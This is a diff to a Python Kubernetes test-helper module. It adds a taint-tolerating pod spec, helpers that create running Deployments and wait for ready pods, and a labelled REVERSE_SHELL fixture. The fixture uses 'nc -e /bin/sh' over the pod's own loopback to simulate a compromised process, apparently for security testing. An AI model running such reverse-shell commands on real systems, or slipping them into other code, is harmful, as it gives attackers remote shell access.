@@ -16,7 +16,7 @@ def create_deployment(
     labels: dict[str, str] | None = None,
     host_network: bool = False,
 ) -> None:
-    """A Deployment whose pods stay Pending (no scheduler): enough for every API-level behaviour."""
+    """A Deployment whose pods stay Pending (they do not tolerate the node's taint): enough for API-level behaviour."""
     labels = labels or {"app": name}
     body = {
         "apiVersion": "apps/v1",
@@ -109,3 +109,85 @@ def policies(api: client.ApiClient, namespace: str) -> dict[str, Any]:
     """NetworkPolicies by name."""
     items = client.NetworkingV1Api(api).list_namespaced_network_policy(namespace).items
     return {p.metadata.name: p for p in items}
+
+
+# ------------------------------------------------------------------------------------------- the real node (tools/kubeenv)
+
+TOOLS_IMAGE = "rsr.local/tools:1"  # busybox + procps' ps, built offline and imported by tools/kubeenv.py
+NODE_TAINT = "rsr.dev/real-node"  # the node's taint: only pods that tolerate it run (the rest stay Pending)
+# A reverse shell confined to the pod's own loopback: the "attacker" listens on 127.0.0.1:4444 and sends two commands;
+# the compromised process connects to it and hands it a shell (`nc -e`), whose answers land in the container log.
+REVERSE_SHELL = (
+    "echo shop api listening on 8080; "
+    "(echo id; echo hostname; sleep 2147483647) | nc -l -p 4444 & "
+    "sleep 1; nc 127.0.0.1 4444 -e /bin/sh & wait"
+)
+
+
+def runnable_spec(command: str, host_network: bool = False, container: str = "api") -> dict[str, Any]:
+    """A pod spec the real node runs: the offline tools image, never pulled, tolerating the node's taint."""
+    return {
+        "hostNetwork": host_network,
+        "terminationGracePeriodSeconds": 1,
+        "tolerations": [{"key": NODE_TAINT, "operator": "Exists", "effect": "NoSchedule"}],
+        "containers": [
+            {
+                "name": container,
+                "image": TOOLS_IMAGE,
+                "imagePullPolicy": "Never",
+                "command": ["/bin/sh", "-c", command],
+            }
+        ],
+    }
+
+
+def create_running_deployment(
+    api: client.ApiClient,
+    namespace: str,
+    name: str,
+    replicas: int = 1,
+    command: str = REVERSE_SHELL,
+    host_network: bool = False,
+) -> None:
+    """A Deployment whose pods run on the real node (by default: the in-pod reverse shell)."""
+    labels = {"app": name}
+    body = {
+        "apiVersion": "apps/v1",
+        "kind": "Deployment",
+        "metadata": {"name": name, "labels": labels},
+        "spec": {
+            "replicas": replicas,
+            "selector": {"matchLabels": labels},
+            "template": {"metadata": {"labels": labels}, "spec": runnable_spec(command, host_network)},
+        },
+    }
+    client.AppsV1Api(api).create_namespaced_deployment(namespace, body)
+
+
+def is_running(pod: Any) -> bool:
+    """Running, with every container started and ready."""
+    statuses = pod.status.container_statuses or []
+    return pod.status.phase == "Running" and bool(statuses) and all(s.ready for s in statuses)
+
+
+def wait_for_running(
+    api: client.ApiClient,
+    namespace: str,
+    count: int,
+    label_selector: str | None = None,
+    timeout_s: float = 90.0,
+    exclude_uids: set[str] | None = None,
+) -> list[Any]:
+    """Wait until ``count`` live pods are Running with every container ready (on the real node)."""
+    deadline = time.monotonic() + timeout_s
+    found: list[Any] = []
+    while time.monotonic() < deadline:
+        found = [
+            p
+            for p in pods(api, namespace, label_selector)
+            if p.metadata.uid not in (exclude_uids or set()) and is_running(p)
+        ]
+        if len(found) >= count:
+            return found
+        time.sleep(0.3)
+    raise AssertionError(f"expected {count} Running pods in {namespace}, found {len(found)} after {timeout_s}s")
